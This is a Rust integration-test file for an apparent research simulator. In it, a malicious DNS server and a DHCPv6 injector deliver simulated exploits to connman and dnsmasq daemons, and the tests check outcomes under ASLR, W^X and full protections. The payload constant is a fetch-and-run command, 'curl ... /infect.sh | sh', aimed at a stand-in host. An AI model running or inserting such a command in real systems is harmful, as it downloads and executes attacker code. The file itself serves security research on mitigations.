//! Exploit-delivery integration tests: the malicious DNS server and the
//! DHCPv6 injector driving real daemon instances over a live simulated
//! network (no core-framework assembly — the raw exchanges of §IV-A).

use attacker::{Dhcpv6Injector, ExploitForge, ExploitStrategy, MaliciousDnsServer};
use firmware::{CommandSet, ContainerHandle, DnsProxyDaemon, NetMgrDaemon, ServiceCore};
use netsim::topology::Fabric;
use netsim::{LinkConfig, SimTime, Simulator};
use rand::rngs::SmallRng;
use rand::SeedableRng;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tinyvm::{catalog, Arch, Protections};

struct Net {
    sim: Simulator,
    attacker_node: netsim::NodeId,
    attacker_v4: std::net::IpAddr,
    dev_node: netsim::NodeId,
    container: ContainerHandle,
}

fn net() -> Net {
    let mut sim = Simulator::new(42);
    let mut star = Fabric::star(&mut sim, "net");
    let attacker_node = sim.add_node("attacker");
    let dev_node = sim.add_node("dev");
    let am = star.attach_core(&mut sim, attacker_node, LinkConfig::default());
    star.attach_core(
        &mut sim,
        dev_node,
        LinkConfig::new(300_000, Duration::from_millis(10)),
    );
    let container = ContainerHandle::new(
        "dev",
        Arch::X86_64,
        dev_node,
        CommandSet::standard(),
        1_000_000,
    );
    Net {
        sim,
        attacker_node,
        attacker_v4: am.addr_v4,
        dev_node,
        container,
    }
}

// The command tries to fetch from a server nobody runs: delivery still
// proves EXEC happened, because the shell's CommandRun event is logged.
const CMD: &str = "curl -s http://10.0.0.1/infect.sh | sh";

#[test]
fn dns_leak_rebase_exchange_compromises_aslr_daemon() {
    let mut n = net();
    let image = Arc::new(catalog::connman_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(1);
    let core = ServiceCore::new(
        n.container.clone(),
        Arc::clone(&image),
        Protections::FULL,
        "connmand",
        &mut rng,
    );
    let daemon = n.sim.install_app(
        n.dev_node,
        Box::new(NetMgrDaemon::new(
            core,
            SocketAddr::new(n.attacker_v4, protocols::DNS_PORT),
            Duration::from_secs(3),
        )),
    );
    let forge = ExploitForge::new(Arc::clone(&image), ExploitStrategy::LeakRebase, CMD);
    let server = n
        .sim
        .install_app(n.attacker_node, Box::new(MaliciousDnsServer::new(forge)));

    n.sim.run_until(SimTime::from_secs(20));

    let srv = n
        .sim
        .app_ref::<MaliciousDnsServer>(server)
        .expect("server alive");
    assert!(srv.probes_sent >= 1, "stage-1 probe sent");
    assert_eq!(srv.leaks_received, 1, "dev leaked exactly once");
    assert_eq!(srv.exploits_sent, 1, "one rebased exploit");
    let d = n.sim.app_ref::<NetMgrDaemon>(daemon).expect("daemon alive");
    assert_eq!(d.core().execs, 1, "the chain ran");
    assert_eq!(d.core().crashes, 0, "no crashes under leak+rebase");
    // Shell spawned and ran the stage-1 command.
    assert!(n
        .container
        .state()
        .events
        .iter()
        .any(|e| matches!(e, firmware::ContainerEvent::CommandRun { command, .. } if command == CMD)));
}

#[test]
fn dns_static_chain_crashloops_aslr_daemon() {
    let mut n = net();
    let image = Arc::new(catalog::connman_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(2);
    let core = ServiceCore::new(
        n.container.clone(),
        Arc::clone(&image),
        Protections::ASLR,
        "connmand",
        &mut rng,
    );
    let daemon = n.sim.install_app(
        n.dev_node,
        Box::new(NetMgrDaemon::new(
            core,
            SocketAddr::new(n.attacker_v4, protocols::DNS_PORT),
            Duration::from_secs(3),
        )),
    );
    let forge = ExploitForge::new(Arc::clone(&image), ExploitStrategy::StaticChain, CMD);
    let server = n
        .sim
        .install_app(n.attacker_node, Box::new(MaliciousDnsServer::new(forge)));
    // The attacker operator retries when no compromise is observed.
    for t in (10..60).step_by(10) {
        n.sim.schedule_forkable_call(
            SimTime::from_secs(t),
            "test.forget_victim",
            server,
            |sim, server| {
                if let Some(s) = sim.app_mut::<MaliciousDnsServer>(server) {
                    s.forget("10.0.0.3".parse().expect("dev v4"));
                }
            },
        );
    }
    n.sim.run_until(SimTime::from_secs(60));
    let d = n.sim.app_ref::<NetMgrDaemon>(daemon).expect("daemon alive");
    assert_eq!(d.core().execs, 0, "static chain never lands under ASLR");
    assert!(
        d.core().crashes >= 2,
        "daemon crashes repeatedly and is respawned: {}",
        d.core().crashes
    );
    assert!(!n.container.is_infected());
}

#[test]
fn dhcpv6_multicast_exchange_compromises_dnsmasq_daemon() {
    let mut n = net();
    let image = Arc::new(catalog::dnsmasq_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(3);
    let core = ServiceCore::new(
        n.container.clone(),
        Arc::clone(&image),
        Protections::FULL,
        "dnsmasq",
        &mut rng,
    );
    let daemon = n
        .sim
        .install_app(n.dev_node, Box::new(DnsProxyDaemon::new(core)));
    let forge = ExploitForge::new(Arc::clone(&image), ExploitStrategy::LeakRebase, CMD);
    let injector = n.sim.install_app(
        n.attacker_node,
        Box::new(Dhcpv6Injector::new(forge, Duration::from_secs(2))),
    );

    n.sim.run_until(SimTime::from_secs(15));

    let inj = n
        .sim
        .app_ref::<Dhcpv6Injector>(injector)
        .expect("injector alive");
    assert!(inj.probes_sent >= 2, "periodic multicast probes");
    // The daemon answers every probe with a leak; only the first triggers
    // an exploit (the injector marks the device exploited).
    assert!(inj.leaks_received >= 2, "got {}", inj.leaks_received);
    assert_eq!(inj.exploits_sent, 1);
    assert_eq!(inj.exploited_count(), 1);
    let d = n.sim.app_ref::<DnsProxyDaemon>(daemon).expect("daemon alive");
    assert!(d.relay_messages_seen >= 2, "probes + exploit all arrive via DHCPv6");
    assert_eq!(d.core().execs, 1);
}

#[test]
fn code_injection_is_blocked_but_daemon_survives() {
    let mut n = net();
    let image = Arc::new(catalog::dnsmasq_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(4);
    let core = ServiceCore::new(
        n.container.clone(),
        Arc::clone(&image),
        Protections::WX,
        "dnsmasq",
        &mut rng,
    );
    let daemon = n
        .sim
        .install_app(n.dev_node, Box::new(DnsProxyDaemon::new(core)));
    let forge = ExploitForge::new(Arc::clone(&image), ExploitStrategy::CodeInjection, CMD);
    n.sim.install_app(
        n.attacker_node,
        Box::new(Dhcpv6Injector::new(forge, Duration::from_secs(2))),
    );
    n.sim.run_until(SimTime::from_secs(15));
    let d = n.sim.app_ref::<DnsProxyDaemon>(daemon).expect("daemon alive");
    assert_eq!(d.core().execs, 0);
    assert!(d.core().blocked >= 1, "W^X blocks and logs the attempt");
    assert_eq!(d.core().crashes, 0, "blocked exploits do not kill the daemon");
    assert!(n
        .container
        .state()
        .events
        .iter()
        .any(|e| matches!(e, firmware::ContainerEvent::ExploitBlocked { .. })));
}
